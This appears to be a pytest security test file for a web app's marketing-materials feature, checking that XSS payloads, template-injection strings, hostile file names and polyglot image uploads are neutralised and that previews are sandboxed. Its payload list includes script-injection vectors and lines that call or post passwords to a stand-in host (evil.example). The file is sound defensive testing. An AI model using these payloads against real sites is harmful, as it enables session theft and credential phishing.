"""F33: what hostile people type and upload stays words and pixels; no page gains an element, nothing runs."""

from __future__ import annotations

from html.parser import HTMLParser
from io import BytesIO
from typing import TYPE_CHECKING, Any

import pytest
from sqlalchemy import select

from app.creatives import queries
from app.creatives.models import Creative
from app.creatives.rules import Kind, Words, clean, fill_html
from app.creatives.service import take
from app.extensions import db
from app.partners.models import Partner
from app.partners.service import change
from tests.creatives.shop import make, picture
from tests.world import PASSWORD

if TYPE_CHECKING:
    from flask.testing import FlaskClient
    from playwright.sync_api import Page

    from app.application import App
    from tests.world import Merchant

PAYLOADS = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'\"--></style></script><svg/onload=alert(1)>",
    "<img src=x onerror=\"fetch('//evil.example')\">",
    "<a href=javascript:alert(1)>x</a>",
    '<a href="jAvAsCrIpT&colon;alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    '<div hx-get="/logout" hx-trigger="load" data-hx-post="/x">x</div>',
    '<b hx-on:click="alert(1)" data-hx-on--load="alert(1)" onpointerenter=alert(1)>x</b>',
    '<form action="https://evil.example"><input name=password><button>x</button></form>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<template><script>alert(1)</script></template>",
    '<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=//evil.example">',
    "<link rel=stylesheet href=//evil.example/x.css><object data=x></object><embed src=x>",
    "{{7*7}}{% raw %}${7*7}<%= 7*7 %>",
    "{link}{code}{name}{__class__}{0}",
    "\u202e<scr\u0000ipt>\ufeff",
]
TYPED = [text for text in PAYLOADS if "\x00" not in text]


class Shape(HTMLParser):
    """The elements and the names of attributes of a page, without what it says."""

    def __init__(self) -> None:
        super().__init__()
        self.parts: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.parts.append(f"<{tag} {' '.join(sorted(name for name, _value in attrs))}>")

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)

    @staticmethod
    def of(html: str) -> list[str]:
        found = Shape()
        found.feed(html)
        return found.parts


class Dangers(HTMLParser):
    """What in a piece of HTML could run, load a page or leave its place."""

    RUNS = frozenset(
        "script iframe object embed form input button svg math style link meta base template noscript "
        "textarea select video audio".split()
    )

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in self.RUNS:
            self.found.append(tag)
        for name, value in attrs:
            said = (value or "").strip().lower()
            if name.startswith(("on", "hx-", "data-", "x-", "@")) or name in {
                "id",
                "class",
                "srcdoc",
            }:
                self.found.append(f"{tag} {name}")
            if name in {"href", "src"} and not said.startswith(("https:", "http:", "mailto:")):
                self.found.append(f"{tag} {name}={value}")
            if name == "style" and ("url" in said or "position" in said):
                self.found.append(f"{tag} {name}={value}")

    @staticmethod
    def of(html: str) -> list[str]:
        found = Dangers()
        found.feed(html.replace('href="{link}"', 'href="https://p.example/"'))
        return found.found


@pytest.mark.parametrize("payload", PAYLOADS)
def test_pasted_html_keeps_nothing_that_runs_and_neither_do_names_put_into_it(payload: str) -> None:
    assert Dangers.of(clean(payload)) == []
    words = Words("https://p.example/r/l/a", payload, payload)
    for frame in (
        "<p>{name}</p>",
        '<a href="{name}" title="{code}">{code}</a>',
        "<img src={code}>",
    ):
        assert Dangers.of(fill_html(clean(frame), words)) == []
        assert Dangers.of(fill_html(frame, words)) == []


def fields(word: str) -> dict[str, Any]:
    return {"name": word, "subject": word, "body": word, "html": f"<p>{word}</p>", "label": word}


def test_no_page_gains_an_element_from_what_is_typed_into_any_field(
    app: App, lampa: Merchant, manager: FlaskClient, partner: FlaskClient
) -> None:
    """Each payload stands in every field at once; the page has the shape that it has with plain words."""
    one = make(app, lampa, Kind.LETTER, **fields("plain"))

    def shapes() -> list[list[str]]:
        pages = [
            manager.get(lampa.office(f"materials/{path}"))
            for path in ("", f"{one.public_id}/", f"{one.public_id}/edit")
        ]
        pages += [
            partner.get(lampa.cabinet(f"materials/{path}")) for path in ("", f"{one.public_id}/")
        ]
        assert {page.status_code for page in pages} == {200}
        return [Shape.of(_quiet(page.text)) for page in pages]

    shapes()  # Anna takes it: from now on the office has a row for her
    before = shapes()
    for payload in TYPED:
        data = fields(payload) | {"shown": "y", "html": f"<p>plain</p>{payload}"}
        answer = manager.post(lampa.office(f"materials/{one.public_id}/edit"), data=data)
        assert answer.status_code in {303, 422}, payload
        manager.get(lampa.office("materials/"))  # takes the toast away
        for was, is_now in zip(before, shapes(), strict=True):
            assert is_now == was, payload


def _quiet(html: str) -> str:
    """Leave the list of past changes out: each save adds a line of its own to it."""
    start, _mark, rest = html.partition('id="activity"')
    return start + rest.partition("</section>")[2]


@pytest.mark.parametrize("payload", TYPED[:6])
def test_a_partners_name_runs_nowhere_in_the_code_that_he_copies(
    app: App, lampa: Merchant, partner: FlaskClient, payload: str
) -> None:
    with app.app_context():
        with lampa.scope():
            anna = db.session.scalars(select(Partner)).one()
            change(anna, name=payload)
        db.session.commit()
    one = make(app, lampa, Kind.HTML, name="x", html='<a href="{name}">{name}</a><p>{link}</p>')
    banner = make(app, lampa, body="{name}")
    answers = []
    for each in (one, banner):
        partner.get(lampa.cabinet(f"materials/{each.public_id}/"))
    with app.app_context(), lampa.scope():
        for each in (one, banner):
            kept = db.session.get(Creative, (lampa.id, each.id))
            anna = db.session.scalars(select(Partner)).one()
            assert kept is not None
            answers.append(take(kept, anna, lampa.slug).code)
    assert [Dangers.of(code) for code in answers] == [[], []]


@pytest.mark.parametrize("name", [f"{text[:60]}.png" for text in TYPED] + ["a/../b\\c\r\nx.png"])
def test_the_name_of_a_file_is_words_alone(
    app: App, lampa: Merchant, manager: FlaskClient, name: str
) -> None:
    data = {"files": [(BytesIO(picture(size=(8, 8))), name)]}
    answer = manager.post(lampa.office("materials/upload"), data=data)
    assert answer.status_code in {303, 422}
    page = manager.get(lampa.office("materials/")).text
    for part in ("<script>alert", "onerror=alert", "<svg/onload", "<iframe srcdoc"):
        assert part not in page
    with app.app_context(), lampa.scope():
        for one in db.session.scalars(select(Creative)):
            assert one.filename is not None
            assert not set(one.filename) & set('<>"/\\\r\n\u202e&;=')
            served = manager.get(queries.file_path(one, lampa.slug))
            assert served.mimetype == "image/png"
            assert "\n" not in served.headers["Content-Disposition"]


@pytest.mark.parametrize(
    ("data", "name"),
    [
        (b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", "logo.png"),
        (b"<html><script>alert(1)</script></html>", "page.gif"),
        (b"\x89PNG\r\n\x1a\n<script>alert(1)</script>", "half.png"),
        (b"GIF89a/*<script>*/=alert(1)//", "half.gif"),
        (b"%PDF-1.4 <script>alert(1)</script>", "book.png"),
        (b"PK\x03\x04<script>alert(1)</script>", "book.webp"),
        (b"\xff\xd8\xff\xe0<svg onload=alert(1)>", "half.jpg"),
    ],
)
def test_what_pretends_to_be_a_picture_is_refused(
    app: App, lampa: Merchant, manager: FlaskClient, data: bytes, name: str
) -> None:
    sent = {"files": [(BytesIO(data), name)]}
    assert manager.post(lampa.office("materials/upload"), data=sent).status_code == 422
    with app.app_context(), lampa.scope():
        assert db.session.scalars(select(Creative)).all() == []


def test_a_script_that_got_into_a_preview_all_the_same_cannot_run_or_reach_the_portal(
    app: App, page: Page, live_server: str, lampa: Merchant
) -> None:
    """The last line of defence: the row is written past the cleaning, and its policy is all that stands."""
    one = make(app, lampa, Kind.HTML, name="Box", html="<p>x</p>")
    hostile = (
        "<p id=there>here</p><script>document.title='owned';parent.document.title='owned'</script>"
        "<img src=x onerror=\"document.title='owned'\"><a id=up target=_top href=/logout>x</a>"
    )
    page.goto(f"{live_server}/login?next={lampa.office('materials/')}")
    page.fill("[name=email]", lampa.staff["manager"].email)
    page.fill("[name=password]", PASSWORD)
    page.click("main [type=submit]")
    page.wait_for_url("**/materials/")
    # Our own policy on a page that is nothing but the attack, opened as a page and in the office's frame.
    there = f"{live_server}{_preview(app, lampa, one)}"
    policy = page.request.get(there).headers["content-security-policy"]
    page.route(
        "**/preview",
        lambda route: route.fulfill(
            body=hostile, content_type="text/html", headers={"Content-Security-Policy": policy}
        ),
    )
    page.goto(there)
    assert page.inner_text("#there") == "here"
    assert page.title() != "owned"
    assert page.evaluate("window.origin") == "null"
    page.goto(f"{live_server}{lampa.office(f'materials/{one.public_id}/')}")
    frame = page.frame_locator("iframe.material-frame")
    frame.locator("#there").wait_for()
    assert "owned" not in page.title()
    frame.locator("#up").click()
    assert "/materials/" in page.url
    inside = page.frames[-1]
    assert inside.evaluate("window.origin") == "null"
    assert (
        inside.evaluate("(() => { try { return parent.document.title } catch { return 'no' } })()")
        == "no"
    )


def _preview(app: App, merchant: Merchant, creative: Creative) -> str:
    with app.app_context():
        return queries.preview_path(creative, merchant.slug)
